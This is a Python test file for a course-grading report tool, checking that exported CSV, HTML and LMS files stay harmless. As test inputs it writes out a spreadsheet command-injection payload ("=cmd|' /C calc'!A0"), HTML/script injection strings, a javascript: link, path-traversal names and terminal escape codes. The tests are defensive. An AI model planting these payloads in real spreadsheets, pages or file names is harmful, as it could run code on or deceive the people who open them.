    page = Words(tmp_path / "report" / "class.html").text
    assert "1 of 2 imports code of the course in softmax" in page
    assert "1 of 2 wrong in a way that has no name in softmax" in page


# Content that must do no harm


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a;=cmd|' /C calc'!A0", "a;'=cmd|' /C calc'!A0"),
        ("a; +1", "a; '+1"),
        ('a";"=1+1', 'a";"\'=1+1'),
        ("=1;=2", "'=1;'=2"),
        ("x; y", "x; y"),
    ],
)
def test_no_formula_hides_behind_a_separator(text, expected):
    assert cell(text) == expected


def test_every_cell_is_quoted_and_moodle_gets_no_markup(tmp_path):
    save(tmp_path, "ana_7", result(task(status="fail", message="<img src=x onerror=alert(1)> a;b")))
    write_reports(tmp_path, WRITERS)
    for path in (tmp_path / "report").glob("*.csv"):
        assert all(
            line.startswith('"') and line.endswith('"')
            for line in path.read_text("utf-8-sig").splitlines()
        )
    for name in ("moodle.csv", "moodle-03_softmax_axis.csv"):
        content = (tmp_path / "report" / name).read_text()
        assert "&lt;img src=x" in content
        assert "<" not in content


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_no_text_of_a_result_does_harm(tmp_path, text):
    wrong = task(text, "fail", ["no-scale"], text)
    said = {"notes": [text], "answers": {text: text}, "writing": [text]}
    save(tmp_path, "ana", result(wrong, notebook=text, **said), name="03")
    save(tmp_path, "bo", result(wrong, notebook=text, **said), name="03")
    files = [
        HandedInFile("ana", text, text, text, counts=True, late=True),
        HandedInFile("", text, text),
    ]
    write_handed_in(
        HandedIn(files, [Person(text, text, text, text, folder=text)]), tmp_path / REPORTED
    )
    (tmp_path / "overrides.csv").write_text(
        f"student,task,comment\nana,{text!r},{text!r}\n", errors="replace"
    )
    write_reports(tmp_path, WRITERS, [].append)
    _require_harmless(tmp_path / "report", text)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_no_name_of_a_student_does_harm(tmp_path, text):
    name = text.replace("/", "|").replace("\x00", "")
    raw = name.encode(errors="surrogateescape" if "\ud800" not in name else "replace")
    save(tmp_path, os.fsdecode(raw), result(task()))
    write_reports(tmp_path, WRITERS)
    _require_harmless(tmp_path / "report", name)


def _require_harmless(report: Path, text: str) -> None:
    for path in files_in(report):
        content = path.read_bytes().decode()
        if path.suffix == ".zip" or path.name == NAME:
            continue
        allowed = "\n\r" if path.suffix == ".csv" else "\n"
        assert not [one for one in content if ord(one) < 32 and one not in allowed], path
        assert "\u202e" not in content
    for path in (report / "gradescope").rglob("*.json"):
        content = path.read_text()
        lines = [line for one in _strings(json.loads(content)) for line in one.split("\n")]
        assert all(line == shown(line) for line in lines)
    for path in (report / "class.html", report / "similar.html", *(report / "students").iterdir()):
        page = Words(path)
        assert page.tags.isdisjoint({"script", "img", "b"})
        assert not [name for name, _ in page.attributes if name.startswith("on")]
    assert "49" not in Words(report / "class.html").text
    for path in report.glob("*.csv"):
        for row in table(path):
            assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@"))]
            assert len(row) == len(table(path)[0])
    ElementTree.parse(report / "junit.xml")


def _strings(content: Any) -> list[str]:
    if isinstance(content, dict):
        content = list(content.values())
    if isinstance(content, list):
        return [text for part in content for text in _strings(part)]
    return [content] if isinstance(content, str) else []


@pytest.mark.parametrize(
    "name", ["x..", "x" * 255, "a\nb", "what?", "\udce9\udcff", "-rf", "ä" * 127]
)
def test_no_name_leads_out_of_the_folder(tmp_path, name):
    save(tmp_path / "out", name, result())
    before = set(files_in(tmp_path))
    write_reports(tmp_path / "out", WRITERS)
    written = set(files_in(tmp_path)) - before
    assert len(written) == 9
    assert all(path.is_relative_to(tmp_path / "out" / "report") for path in written)


def test_names_that_differ_in_case_or_in_bad_bytes_have_a_page_each(tmp_path):
    students = ["Ana", "ana", "caf\udce9", "caf\udce8"]
    for student in students:
        save(tmp_path, student, result(notes=[f"note of {os.fsencode(student)!r}"]))
    write_reports(tmp_path, ["html"])
    pages = list((tmp_path / "report" / "students").iterdir())
    assert len({page.name.casefold() for page in pages}) == 4
    said = " ".join(Words(page).text for page in pages)
    assert all(f"note of {os.fsencode(student)!r}" in said for student in students)


def test_every_link_of_the_class_page_leads_to_a_page(tmp_path):
    for student in ["50% #1?", "a b", "ü&ö", "javascript:alert(1)"]:
        save(tmp_path, student, result())
    write_reports(tmp_path, ["html"])
    page = Words(tmp_path / "report" / "class.html")
    links = [
        value for name, value in page.attributes if name == "href" and not value.startswith("#")
    ]
    assert len(links) == 4
    assert all((tmp_path / "report" / unquote(urlsplit(link).path)).is_file() for link in links)
    assert all(link.startswith("students/") for link in links)


def test_a_student_called_report_is_a_student_like_any_other(tmp_path):
    save(tmp_path, "report", result())
    save(tmp_path, "ana", result())
    for _ in range(2):
        write_reports(tmp_path, WRITERS)
    assert [row[0] for row in table(tmp_path / "report" / "grades.csv")[1:]] == ["ana", "report"]


def test_pages_need_nothing_from_elsewhere_and_run_nothing(tmp_path):
    write_reports(class_of_30(tmp_path))
    for path in files_in(tmp_path / "report"):
        if path.suffix == ".html":
            page, content = Words(path), path.read_text(encoding="utf-8")
            assert page.tags.isdisjoint({"script", "link", "img", "iframe", "object"})
            assert "url(" not in content
            assert "default-src 'none'" in content


@settings(deadline=None)
@given(st.text())
@example("..")
@example(".")
@example("")
def test_whatever_the_name_its_file_is_one_in_its_folder(name):
    own = portable(name)
    assert Path("folder", own).name == own
    assert Path("folder", own).resolve().parent == Path("folder").resolve()
    assert len(f".{own}.html.{2**22}".encode()) <= 255
    own.encode()


@settings(deadline=None)
@given(st.lists(st.text(alphabet="aAäÄ./ \udcff"), unique=True))
def test_no_two_names_share_a_file(names):
    found = distinct(names)
    assert found.keys() == set(names)
    assert len({own.casefold() for own in found.values()}) == len(names)


@settings(deadline=None)
@given(st.text())
def test_whatever_the_text_what_is_shown_can_be_printed_and_stored(text):
    clean = shown(text)
    assert len(clean) == len(text)
    clean.encode()
    assert all(one.isprintable() or one in "\u200c\u200d" for one in clean)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+49 30", "'+49 30"),
        ("-", "'-"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "' =1"),
        ("\rx", "' x"),
        (" =1+1", "' =1+1"),
        ("-1.5", "-1.5"),
        ("+3e-5", "+3e-5"),
        ("-inf", "'-inf"),
        ("plain", "plain"),
        ("", ""),
        (2.5, "2.5"),
        (3.0, "3"),
    ],
)
def test_a_cell_that_looks_like_a_formula_gets_an_apostrophe(value, expected):
    assert cell(value) == expected


# Unusable content


@pytest.mark.parametrize(
    "content",
    [
        "",
        '{"schema": 1, "noteb',
        "[]",
        "null",
        "[" * 100_000,
        json.dumps({**result(), "schema": 2}),
        json.dumps({**result(), "isolation": "vm"}),
        json.dumps(result(task(status="excellent"))),
        json.dumps(result(task())).replace('"points": 2', '"points": NaN'),
        json.dumps(result(task())).replace('"points": 2', '"points": 1e999'),
        json.dumps(result(task())).replace('"points": 2', f'"points": {"9" * 5000}'),
        json.dumps(result()) + " " * 3_000_000,
    ],
    ids=str.__len__,
)
def test_a_torn_or_foreign_file_is_one_line_and_the_others_are_reported(tmp_path, capsys, content):
    save(tmp_path, "ana", result())
    save(tmp_path, "bad\x1b[2J", content, name="03_softmax_axis")
    assert main(["report", str(tmp_path), "--format", "csv"]) == 2
    printed, complaint = capsys.readouterr()
    assert printed == f"{tmp_path}/report/grades.csv\n"
    (line,) = complaint.splitlines()
    assert line.startswith(f"coursetools: {tmp_path}/bad�[2J/03_softmax_axis.json: ")
    assert [row[0] for row in table(tmp_path / "report" / "grades.csv")[1:]] == ["ana"]


def test_links_fifos_and_drafts_are_not_read(tmp_path):
    save(tmp_path / "out", "ana", result())
    elsewhere = save(tmp_path, "secret", result(task(message="secret")))
    (tmp_path / "out" / "ana" / "link.json").symlink_to(elsewhere)
    os.mkfifo(tmp_path / "out" / "ana" / "pipe.json")
    (tmp_path / "out" / "linked").symlink_to(elsewhere.parent)
    save(tmp_path / "out", "...", result())
    save(tmp_path / "out", "ana", "{", name=".draft")
    complaints = []
    (path,) = write_reports(tmp_path / "out", ["csv"], complaints.append)
    assert [row[0] for row in table(path)[1:]] == ["...", "ana"]
    assert sorted(line.split(":")[0].rpartition("/")[2] for line in complaints) == [
        "link.json",
        "pipe.json",
    ]


@pytest.mark.parametrize("kind", ["missing", "file", "empty"])
def test_a_folder_without_results_is_status_2_and_one_line(tmp_path, capsys, kind):
    out = tmp_path / "out"
    if kind == "file":
        out.write_text("")
    elif kind == "empty":
        out.mkdir()
    assert main(["report", str(out), "--format", "html"]) == 2
    (line,) = capsys.readouterr().err.splitlines()
    assert line.startswith(f"coursetools: {out}: ")


def test_a_folder_that_cannot_be_written_is_one_line(tmp_path, capsys):
    save(tmp_path, "ana", result())
    (tmp_path / "report").write_text("in the way")
    assert main(["report", str(tmp_path), "--format", "html"]) == 2
    (line,) = capsys.readouterr().err.splitlines()
    assert "cannot be written" in line


def test_a_full_disk_leaves_the_report_before_as_it_was(tmp_path, monkeypatch):
    save(tmp_path, "ana", result())
    (path,) = write_reports(tmp_path, ["csv"])
    before = path.read_bytes()
    save(tmp_path, "ben", result())

    def full(draft, content):
        raise OSError(28, "No space left on device", str(draft))

    monkeypatch.setattr(Path, "write_bytes", full)
    with pytest.raises(UnusableInput, match="No space left on device"):
        write_reports(tmp_path, ["csv"])
    assert path.read_bytes() == before


def test_each_format_prints_where_it_went(tmp_path, capsys):
    class_of_30(tmp_path)
    places = []
    for name in WRITERS:
        assert main(["report", str(tmp_path), "--format", name]) == 0
        places.append(capsys.readouterr().out.strip().removeprefix(f"{tmp_path}/report/"))
    names = ["grades.csv", "junit.xml", "class.html", "moodle.csv", "canvas.csv", "gradescope"]
    assert places == names
    assert all((tmp_path / "report" / name).exists() for name in names)


def test_a_result_with_the_longest_answers_can_be_read(tmp_path):
    """Characters that JSON writes in six bytes take twelve outside the basic plane."""
    texts = cut(["\N{GRINNING FACE}" * 30_000] * 20)
    assert [len(text) > 20_000 for text in texts[:6]] == [True] * 5 + [False]
    answers = {str(number): text for number, text in enumerate(texts)}
    longest = [
        task(str(number), "fail", message="\N{GRINNING FACE}" * 2000) for number in range(20)
    ]
    path = save(tmp_path, "ana", result(*longest, answers=answers))
    assert read_result(path).answers == answers
